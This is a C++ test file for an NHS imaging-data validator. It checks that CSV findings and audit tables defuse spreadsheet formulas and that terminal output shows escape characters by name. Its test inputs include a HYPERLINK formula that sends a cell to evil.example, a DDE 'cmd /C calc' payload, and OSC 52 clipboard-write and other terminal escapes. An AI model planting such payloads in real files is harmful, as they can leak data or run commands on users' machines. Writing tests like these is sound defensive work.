// Reports are safe with hostile values: what a provider sends, a file's name, a user's name
// or comment can neither run as a formula in a spreadsheet (CSV reports) nor act on the
// terminal (text output); the accepted-records file, which is data, keeps every value exact.
// See docs/report-safety.md.

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "integration/process.hpp"

namespace {

using did::testing::ReadText;
using did::testing::WriteText;

const std::string kDid = DID_BINARY;

const std::vector<std::string> kColumns = {"NHS NUMBER",
                                           "NHS NUMBER STATUS INDICATOR CODE",
                                           "PERSON BIRTH DATE",
                                           "ETHNIC CATEGORY",
                                           "PERSON GENDER CODE CURRENT",
                                           "POSTCODE OF USUAL ADDRESS",
                                           "GENERAL MEDICAL PRACTICE CODE (PATIENT REGISTRATION)",
                                           "PATIENT SOURCE SETTING TYPE (DIAGNOSTIC IMAGING)",
                                           "REFERRER CODE",
                                           "REFERRING ORGANISATION CODE",
                                           "DIAGNOSTIC TEST REQUEST DATE",
                                           "DIAGNOSTIC TEST REQUEST RECEIVED DATE",
                                           "DIAGNOSTIC TEST DATE",
                                           "IMAGING CODE (NICIP)",
                                           "IMAGING CODE (SNOMED CT)",
                                           "SERVICE REPORT ISSUE DATE",
                                           "SITE CODE (OF IMAGING)",
                                           "RADIOLOGICAL ACCESSION NUMBER"};

const std::string kOsc52 = "\x1b]52;c;SGVsbG8=\x07";  // writes "Hello" to the clipboard
const std::string kRed = "\x1b[31m";
const std::string kC1Csi = "\xC2\x9B";  // U+009B, CSI as one character

std::string Header(std::vector<std::string> columns = kColumns) {
    std::string out;
    for (size_t i = 0; i < columns.size(); ++i) out += (i == 0 ? "" : ",") + columns[i];
    return out + "\n";
}

// One record that passes every check, with the given postcode, referrer, site and accession.
std::string Record(const std::string& accession, const std::string& site = "RH802",
                   const std::string& postcode = "LS1 4AP", const std::string& referrer = "G1234567") {
    return "4010232137,01,1980-05-17,A,1," + postcode + ",B82005,04," + referrer +
           ",B82005,2026-10-01,2026-10-02,2026-10-10,XCHES,399208008,2026-10-11," + site + "," + accession + "\n";
}

// RFC 4180 records, quoted fields unquoted: what a spreadsheet sees in each cell.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string cell;
    bool quoted = false;
    for (size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c != '"') {
                cell += c;
            } else if (i + 1 < text.size() && text[i + 1] == '"') {
                cell += '"';
                ++i;
            } else {
                quoted = false;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            row.push_back(std::move(cell));
            cell.clear();
        } else if (c == '\n') {
            row.push_back(std::move(cell));
            cell.clear();
            rows.push_back(std::move(row));
            row.clear();
        } else {
            cell += c;
        }
    }
    return rows;
}

bool StartsFormula(const std::string& cell) {
    return !cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
}

bool IsPlainNumber(const std::string& cell) {
    size_t i = cell[0] == '-' || cell[0] == '+' ? 1 : 0;
    return i < cell.size() && cell.find_first_not_of("0123456789.", i) == std::string::npos;
}

// Every cell a spreadsheet would run as a formula, whatever else it holds.
std::vector<std::string> FormulaCells(const std::string& csv) {
    std::vector<std::string> found;
    for (const auto& row : ParseCsv(csv)) {
        for (const auto& cell : row) {
            if (StartsFormula(cell) && !IsPlainNumber(cell)) found.push_back(cell);
        }
    }
    return found;
}

// What a terminal would act on: ESC, BEL, or CSI as a C1 character.
bool HasTerminalControl(const std::string& text) {
    return text.find('\x1b') != std::string::npos || text.find('\x07') != std::string::npos ||
           text.find(kC1Csi) != std::string::npos;
}

bool Has(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

class ReportSafetyTest : public ::testing::Test {
  protected:
    void SetUp() override { dir_ = did::testing::MakeTempDir("did_report_safety"); }
    void TearDown() override { std::filesystem::remove_all(dir_); }
    std::string Path(const std::string& name) const { return dir_ + "/" + name; }
    // did in the temporary directory, with its own data directory and SQLite database.
    did::testing::ProcessResult Did(const std::string& args) const {
        return did::testing::Run("cd '" + dir_ + "' && DID_USER=dm.rxx DID_DATA_DIR='" + dir_ + "/data' '" + kDid +
                                 "' " + args + " --db 'sqlite:" + dir_ + "/did.sqlite' 2>/dev/null");
    }
    did::testing::ProcessResult Validate(const std::string& args) const {
        return did::testing::Run("cd '" + dir_ + "' && DID_DATA_DIR='" + dir_ + "/data' '" + kDid + "' validate " +
                                 args + " 2>/dev/null");
    }
    std::string dir_;
};

TEST_F(ReportSafetyTest, FindingsCsvShowsFormulasAsTextAndTheAcceptedFileKeepsThemExact) {
    const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";
    WriteText(Path("hostile.csv"),
              Header() + Record("\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\"") +  // too long
                  Record("=1+2") + Record("@SUM(1+1)") + Record("+44") + Record("-1+1") +                // accepted
                  Record("A6", "+RH80") + Record("A7", "RH802", "LS1 4AP", "-2+3+cmd|' /C calc'!A0") +
                  Record("A8", "RH802", "@SUM(1+1)") + Record("\t=1+1") + Record("\r=1+1") + Record("A11", "-5") +
                  Record(kOsc52));
    const auto r = Validate(
        "hostile.csv --period 2026-10 --submitted 2026-11-05 --format text --findings out.csv --accepted acc.csv");
    ASSERT_EQ(r.exit_code, 0) << r.out;
    EXPECT_TRUE(Has(r.out, "Rejected              7")) << r.out;
    EXPECT_FALSE(HasTerminalControl(r.out)) << r.out;

    // The findings: every value a spreadsheet would run carries a leading quote instead.
    const std::string findings = ReadText(Path("out.csv"));
    EXPECT_EQ(FormulaCells(findings), std::vector<std::string>{}) << findings;
    std::vector<std::string> values;
    for (const auto& row : ParseCsv(findings)) {
        ASSERT_EQ(row.size(), 8u) << findings;
        values.push_back(row[6]);
    }
    for (const std::string& sent :
         {hyperlink, std::string("+RH80"), std::string("-2+3+cmd|' /C calc'!A0"), std::string("@SUM(1+1)")}) {
        EXPECT_NE(std::find(values.begin(), values.end(), "'" + sent), values.end()) << sent << "\n" << findings;
    }
    // As written: prefixed, and quoted as OWASP advises.
    EXPECT_TRUE(Has(findings, ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",")) << findings;
    // A value holding a control character is a finding of its own, and the value shows the
    // character by name (DIDC-CONTROL, DIDS072), so it no longer starts with a tab or CR.
    EXPECT_TRUE(Has(findings, ",<TAB>=1+1,")) << findings;
    EXPECT_TRUE(Has(findings, ",<CR>=1+1,")) << findings;
    // A plain number is left as it is: a spreadsheet reads it as a number, never a formula.
    EXPECT_TRUE(Has(findings, ",reject,-5,")) << findings;
    // The site code and accession number beside the line are guarded as `value` is.
    EXPECT_TRUE(Has(findings, "\n7,\"'+RH80\",A6,")) << findings;
    EXPECT_TRUE(Has(findings, "\n2,RH802,\"'=HYPERLINK(")) << findings;
    EXPECT_TRUE(Has(findings, "\n12,-5,A11,")) << findings;
    EXPECT_NE(std::find(values.begin(), values.end(), "<ESC>]52;c;SGVsbG8=<BEL>"), values.end()) << findings;

    // The accepted records are data: each value exactly as sent.
    const std::string accepted = ReadText(Path("acc.csv"));
    const auto rows = ParseCsv(accepted);
    ASSERT_EQ(rows.size(), 6u) << accepted;  // the header and five records
    std::vector<std::string> accessions;
    for (size_t i = 1; i < rows.size(); ++i) accessions.push_back(rows[i].back());
    EXPECT_EQ(accessions, (std::vector<std::string>{"=1+2", "@SUM(1+1)", "+44", "-1+1", "A7"})) << accepted;
    EXPECT_TRUE(Has(accepted, ",RH802,=1+2\n")) << accepted;
    EXPECT_TRUE(Has(accepted, ",RH802,-1+1\n")) << accepted;
    // ... and so a valid submission: validating it again rejects nothing.
    const auto again = Validate("acc.csv --period 2026-10 --submitted 2026-11-05 --format json");
    ASSERT_EQ(again.exit_code, 0) << again.out;
    EXPECT_EQ(nlohmann::json::parse(again.out)["records"]["rejected"], 0) << again.out;
}

TEST_F(ReportSafetyTest, TheTextReportShowsControlCharactersFromHeaderCellsFileNameAndProvider) {
    auto columns = kColumns;
    columns[2] = "\"=HYPERLINK(\"\"http://evil.example\"\")\"";
    columns[3] = kOsc52;
    columns[4] = kRed + "RED" + "\x1b[0m";
    columns[5] = kC1Csi + "2J";
    const std::string name = "name\x1b]0;title\x07.csv";
    WriteText(Path(name), Header(columns) + Record("ACC0001"));

    // A provider code with an escape in it is refused, and the refusal shows the escape.
    const auto refused = did::testing::Run("cd '" + dir_ + "' && '" + kDid + "' validate '" + name + "' --provider '" +
                                           kRed + "RXX' 2>&1");
    ASSERT_EQ(refused.exit_code, 2) << refused.out;
    EXPECT_FALSE(HasTerminalControl(refused.out)) << refused.out;
    EXPECT_TRUE(Has(refused.out, "--provider: '<ESC>[31mRXX' is not an organisation code")) << refused.out;

    const auto r = Validate("'" + name + "' --provider RXX --format text --findings out.csv");
    ASSERT_EQ(r.exit_code, 1) << r.out;
    EXPECT_FALSE(HasTerminalControl(r.out)) << r.out;
    EXPECT_TRUE(Has(r.out, "DID validation of name<ESC>]0;title<BEL>.csv (")) << r.out;
    EXPECT_TRUE(Has(r.out, "Provider RXX, period")) << r.out;
    EXPECT_TRUE(Has(r.out, "column 4 is '<ESC>]52;c;SGVsbG8=<BEL>', expected ETHNIC CATEGORY")) << r.out;
    EXPECT_TRUE(Has(r.out, "column 5 is '<ESC>[31mRED<ESC>[0m'")) << r.out;
    EXPECT_TRUE(Has(r.out, "column 6 is '<U+009B>2J'")) << r.out;
    EXPECT_TRUE(Has(r.out, "column 3 is '=HYPERLINK(\"http://evil.example\")'")) << r.out;

    // The findings file quotes the header cells; its value column starts with the formula.
    const std::string findings = ReadText(Path("out.csv"));
    EXPECT_EQ(FormulaCells(findings), std::vector<std::string>{}) << findings;
    EXPECT_TRUE(Has(findings, ",file,\"'=HYPERLINK(")) << findings;

    // JSON escapes the controls, C1 included, and still decodes to the cells as sent.
    const auto json = Validate("'" + name + "' --format json");
    ASSERT_EQ(json.exit_code, 1) << json.out;
    EXPECT_FALSE(HasTerminalControl(json.out)) << json.out;
    const std::string message = nlohmann::json::parse(json.out)["file_errors"][0]["message"];
    // The finding's message names the characters (DIDC-HEADER quotes cells as findings show them).
    EXPECT_TRUE(Has(message, "column 4 is '<ESC>]52;c;SGVsbG8=<BEL>'")) << message;
    EXPECT_TRUE(Has(message, "column 6 is '<U+009B>2J'")) << message;
}

// The administration tables, from a user name (`--as`) and a reason: CSV cells that would run
// are text, and the text table shows control characters and stays aligned.
TEST_F(ReportSafetyTest, TablesGuardUserNamesAndReasons) {
    const std::string hyperlink = "=HYPERLINK(\"http://evil.example\",\"x\")";
    ASSERT_EQ(did::testing::Run("cd '" + dir_ + "' && '" + kDid + "' refdata samples samples").exit_code, 0);
    ASSERT_EQ(Did("refdata import-ods samples/etr.csv").exit_code, 0);  // the trusts, RXX among them
    ASSERT_EQ(Did("timetable rule --cutoff-day 20 --as '" + hyperlink + "'").exit_code, 0);
    ASSERT_EQ(Did("expect add --provider RXX --from 2026-01 --as '" + kOsc52 + "dm'").exit_code, 0);
    ASSERT_EQ(Did("exception grant --provider RXX --period 2026-10 --until 2027-05-31 --reason '@SUM(1+1)" + kRed +
                  "' --as admin")
                  .exit_code,
              0);

    auto r = Did("audit list --format csv");
    ASSERT_EQ(r.exit_code, 0) << r.out;
    EXPECT_EQ(FormulaCells(r.out), std::vector<std::string>{}) << r.out;
    EXPECT_TRUE(Has(r.out, ",\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",cli@")) << r.out;
    r = Did("exception list --format csv");
    ASSERT_EQ(r.exit_code, 0) << r.out;
    EXPECT_TRUE(Has(r.out, ",\"'@SUM(1+1)" + kRed + "\",admin,")) << r.out;

    r = Did("audit list");
    ASSERT_EQ(r.exit_code, 0) << r.out;
    EXPECT_FALSE(HasTerminalControl(r.out)) << r.out;
    EXPECT_TRUE(Has(r.out, "  <ESC>]52;c;SGVsbG8=<BEL>dm  ")) << r.out;
    EXPECT_TRUE(Has(r.out, "  " + hyperlink + "  ")) << r.out;
    // Columns are measured on what is shown: `origin` starts at the same place on every line.
    const size_t origin = r.out.find("origin");
    ASSERT_NE(origin, std::string::npos) << r.out;
    size_t lines = 0;
    for (size_t start = r.out.find('\n') + 1; start < r.out.size(); start = r.out.find('\n', start) + 1) {
        EXPECT_EQ(r.out.compare(start + origin, 4, "cli@"), 0) << r.out;
        ++lines;
    }
    EXPECT_EQ(lines, 4u) << r.out;  // the ODS import and the three changes
    r = Did("exception list");
    EXPECT_FALSE(HasTerminalControl(r.out)) << r.out;
    EXPECT_TRUE(Has(r.out, "@SUM(1+1)<ESC>[31m  admin")) << r.out;
}

}  // namespace
